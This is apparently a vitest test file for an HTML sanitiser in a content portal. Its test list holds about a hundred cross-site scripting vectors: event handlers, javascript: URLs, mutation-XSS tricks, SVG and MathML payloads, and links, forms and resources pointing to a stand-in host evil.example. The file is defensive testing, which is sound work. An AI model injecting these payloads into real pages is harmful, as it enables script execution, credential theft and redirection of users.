import { describe, expect, test } from 'vitest';
import { sanitiseComment, sanitisePage } from './sanitise.ts';

const own = '/api/content/assets/own-file';

/** What attackers write, each of which would run or reach out where it was kept. */
const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/api/content/assets/own-file" onload="alert(1)">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="https://evil.example/pixel.png">',
  '<img srcset="https://evil.example/a 1x" src="/api/content/assets/own-file">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">click</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<a href="https://ok.example" style="position:fixed;inset:0">x</a>',
  '<a href="https://ok.example" target="_self" rel="opener" ping="https://evil.example">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="width: expression(alert(1));">x</div>',
  '<p id="app" class="portal-root" data-x="1">x</p>',
  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</option></select>',
  '<textarea autofocus onfocus=alert(1)></textarea><img src=x onerror=alert(1)>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src onloadstart=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<frameset onload=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<p title="a"onmouseover="alert(1)">x</p>',
  "<img src='x' onerror='alert`1`'>",
  '<img/src=x/onerror=alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
  '<<img src=x onerror=alert(1)//',
  '<p/onclick=alert(1)>x',
  '"><img src=x onerror=alert(1)>',
  '<a href="https://ok.example"><img src=x onerror=alert(1)></a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<slot onslotchange=alert(1)></slot>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<dialog open onclose=alert(1)>x</dialog>',
  '<keygen autofocus onfocus=alert(1)>',
  '<menu><menuitem onclick=alert(1)>x</menuitem></menu>',
  '<img src="/api/content/assets/own-file?sig=\'&quot;><script>alert(1)</script>">',
  '<img src="/api/content/assets/../../v1/account">',
  '<img src="//evil.example/api/content/assets/foreign">',
  '<img src="/api/content/assets/own-file" width="1e9" height="100%" style="width:1px">',
  '<figure data-video="youtube:dQw4w9WgXcQ" onclick="alert(1)" style="position:fixed">x</figure>',
  '<figure data-video="youtube:dQw4w9WgXcQ&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</figure>',
  '<figure data-video="javascript:alert(1)"><b href="javascript:alert(1)">x</b></figure>',
  '<figure data-video="youtube:../../evil12">x</figure>',
  '<figure data-video="youtube:dQw4w9WgXcQ\n">x</figure>',
  '<figure data-video="youtube:dQw4w9WgXcQ"><iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe></figure>',
  '<figure><figcaption onclick=alert(1)>x</figcaption></figure>',
  '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe>',
  '<span data-mention="17" onclick="alert(1)" class="admin">@Amy</span>',
  '<span data-mention="17&quot; onclick=&quot;alert(1)">@Amy</span>',
  '<span data-mention="javascript:alert(1)">@Amy</span>',
  '<span data-mention="17"><img src=x onerror=alert(1)></span>',
  '<span data-video="youtube:dQw4w9WgXcQ" style="color:red">x</span>',
  '<ol start="1" type="javascript:alert(1)" onclick="alert(1)"><li>x</ol>',
  '<table><caption onclick="alert(1)">x</caption><colgroup style="width:9px"><col></colgroup><th scope="evil">x</table>',
];

const allowedTags =
  /^(?:p|br|strong|em|u|s|h2|h3|h4|ul|ol|li|blockquote|a|code|pre|hr|img|figure|span|table|caption|thead|tbody|tfoot|tr|th|td)$/;

/** Reads the result as strictly as no browser would: every tag and attribute must be on the list. */
function offences(html: string): string[] {
  const found: string[] = [];
  for (const [whole, name = '', attributes = ''] of html.matchAll(/<\/?([^\s>/]+)([^>]*)>/g)) {
    if (!allowedTags.test(name)) found.push(whole);
    for (const [, attribute = '', value = ''] of attributes.matchAll(/([^\s="'/]+)(?:="([^"]*)")?/g)) {
      const isFine =
        (name === 'a' && attribute === 'href' && /^(?:https?:\/\/|mailto:)/.test(value)) ||
        (name === 'a' && attribute === 'rel' && value === 'noopener noreferrer nofollow') ||
        (name === 'a' && attribute === 'target' && value === '_blank') ||
        (name === 'img' && attribute === 'src' && value === own) ||
        (name === 'img' && attribute === 'alt') ||
        (name === 'img' && /^(?:width|height)$/.test(attribute) && /^\d{1,5}$/.test(value)) ||
        (name === 'figure' && attribute === 'data-video' && value === 'youtube:dQw4w9WgXcQ') ||
        (name === 'span' && attribute === 'data-mention' && value === '17') ||
        (name === 'ol' && attribute === 'start' && /^\d{1,5}$/.test(value)) ||
        (name === 'th' && attribute === 'scope' && /^(?:col|row)$/.test(value)) ||
        (/^t[hd]$/.test(name) && /^(?:col|row)span$/.test(attribute) && /^\d{1,3}$/.test(value));
      if (!isFine) found.push(`${name} ${attribute}="${value}"`);
    }
  }
  return found;
}

describe('sanitising', () => {
  test.each(vectors)('%s', (vector) => {
    for (const html of [
      vector,
      `<p>${vector}</p>`,
      `<ul><li>${vector}`,
      `<table><td>${vector}</table>`,
      `<a href="https://ok.example">${vector}</a>`,
    ]) {
      for (const sanitised of [sanitisePage(html, { ownAssetIds: ['own-file'] }), sanitiseComment(html)]) {
        expect(offences(sanitised), sanitised).toEqual([]);
        // Reading its own result changes nothing: no second reading can bring anything to life.
        expect(sanitiseComment(sanitiseComment(html))).toBe(sanitiseComment(html));
      }
    }
  });

  test('keeps what people write', () => {
    const html =
      '<h2>Title</h2><p>Some <strong>bold</strong>, <em>slanted</em>, <u>under</u> and <s>gone</s> words<br />and <code>code</code></p><ul><li>One</li></ul><ol><li>Two</li></ol><blockquote><p>Said</p></blockquote><pre>x</pre><hr /><table><tbody><tr><th>a</th><td colspan="2">b</td></tr></tbody></table>';
    expect(sanitisePage(html)).toBe(html);
  });

  test('keeps the films, people, tables and picture sizes that the editor writes', () => {
    const film =
      '<figure data-video="vimeo:76979871/8272103f6e"><a href="https://vimeo.com/76979871/8272103f6e" rel="noopener noreferrer nofollow" target="_blank">The workshop</a></figure>';
    const person = '<p>Ask <span data-mention="b7c1-17">@Amy Lee</span></p>';
    const table =
      '<table><caption>Weeks</caption><thead><tr><th scope="col">Week</th></tr></thead><tbody><tr><td rowspan="2">1</td></tr></tbody></table>';
    const list = '<ol start="3"><li><p>Third</p></li></ol>';
    const picture = `<img src="${own}" alt="" width="1600" height="900" />`;
    const html = `${film}${person}${table}${list}${picture}`;
    expect(sanitisePage(html, { ownAssetIds: ['own-file'] })).toBe(html);
    expect(sanitiseComment(`${film}${person}`)).toContain(person);
    expect(sanitiseComment(film)).toMatch(/^<a href="https:\/\/vimeo.com/);
  });

  test('leaves the words of a film or a person that is none', () => {
    expect(sanitisePage('<figure data-video="other:1">Words</figure><p><span style="x">more</span></p>')).toBe(
      'Words<p>more</p>',
    );
  });

  test('gives older tags their modern names and links their marks', () => {
    expect(sanitisePage('<h1>T</h1><div><b>b</b><i>i</i></div>')).toBe('<h2>T</h2><p><strong>b</strong><em>i</em></p>');
    expect(sanitisePage('<a href="mailto:a@b.example">mail</a>')).toBe(
      '<a href="mailto:a@b.example" rel="noopener noreferrer nofollow" target="_blank">mail</a>',
    );
  });

  test('keeps pictures of the post alone, without signature', () => {
    const html =
      '<p>See</p><img src="https://portal.example/api/content/assets/own-file?exp=1&amp;sig=x" alt="A splint"><img src="/api/content/assets/foreign">';
    expect(sanitisePage(html, { ownAssetIds: ['own-file'] })).toBe(`<p>See</p><img src="${own}" alt="A splint" />`);
  });

  test.each([
    ['brackets', '<'.repeat(50_000)],
    ['paragraphs', '<p>'.repeat(20_000)],
    ['entities', '&nbsp;'.repeat(10_000)],
    ['an address', `<a href="${'a'.repeat(50_000)}">x</a>`],
    ['comments', '<!--'.repeat(10_000)],
  ])('makes a long text of %s no longer than escaping does', (_, html) => {
    expect(sanitisePage(html).length).toBeLessThanOrEqual(html.length * '&lt;'.length);
  });
});
